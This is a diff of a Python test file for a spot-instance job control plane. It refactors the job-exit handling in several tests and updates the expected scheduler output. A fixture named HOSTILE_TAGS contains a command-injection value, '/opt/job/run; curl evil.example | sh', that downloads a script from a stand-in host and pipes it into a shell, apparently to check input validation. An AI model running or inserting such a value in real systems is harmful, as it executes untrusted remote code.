@@ -11,7 +11,16 @@ from spotcr_contracts import events
 from spotcr_contracts import tags as tag_names
 from spotcr_functions.models import Status
 
-from tests.workflow.harness import EVENTS, ControlPlane, agent_event, ec2_event, invoke_function, now_iso, route
+from tests.workflow.harness import (
+    EVENTS,
+    ControlPlane,
+    agent_event,
+    ec2_event,
+    finish_exit,
+    invoke_function,
+    now_iso,
+    route,
+)
 
 HOSTILE_TAGS = {
     "shell metacharacters": {tag_names.COMMAND: "/opt/job/run; curl evil.example | sh"},
@@ -155,7 +164,7 @@ def test_scheduler_orders_due_periodic_checkpoints_once(plane: ControlPlane) -> 
     second = invoke_function("scheduler", json.loads((EVENTS / "scheduled-event.json").read_text()))
 
     # Then exactly one periodic checkpoint was ordered, on the due job's instance, at its generation
-    assert (first, second) == ({"ordered": ["due-1"]}, {"ordered": []})
+    assert (first, second) == ({"ordered": ["due-1"], "exits_asked": []}, {"ordered": [], "exits_asked": []})
     [command] = plane.sent_commands("checkpoint")
     assert command["instances"] == [due]
     assert command["parameters"] == {
@@ -262,13 +271,14 @@ def test_job_exit_finishes_the_job_and_later_termination_does_nothing(
     plane: ControlPlane, exit_code: int, status: Status
 ) -> None:
     instance_id = plane.start_job("done-1")
-    route(agent_event(events.JobExited("done-1", instance_id, 0, now_iso(), exit_code=exit_code)))
+    finish_exit(events.JobExited("done-1", instance_id, 0, now_iso(), exit_code=exit_code))
     route(ec2_event("state-change-terminated", instance_id))
     route(ec2_event("spot-interruption-warning", instance_id))
     job = plane.job("done-1")
     assert (job.status, job.exit_code) == (status, exit_code)
     assert plane.executions() == []
-    assert plane.sent_commands() == []
+    # Only the status command that confirmed the exit through SSM: no dump, no recovery
+    assert [c["document"] for c in plane.sent_commands()] == [plane.documents["status"]]
 
 
 def test_stale_generation_events_are_ignored(plane: ControlPlane) -> None:
@@ -282,7 +292,7 @@ def test_stale_generation_events_are_ignored(plane: ControlPlane) -> None:
     )
     [(_, result)] = route(agent_event(zombie))
     assert result == {"action": "ignored", "reason": "stale generation"}
-    route(agent_event(events.JobExited("fence-1", instance_id, 3, now_iso(), exit_code=0)))
+    finish_exit(events.JobExited("fence-1", instance_id, 3, now_iso(), exit_code=0))
     job = plane.job("fence-1")
     assert (job.status, job.checkpoint_id) == (Status.RUNNING, None)
 
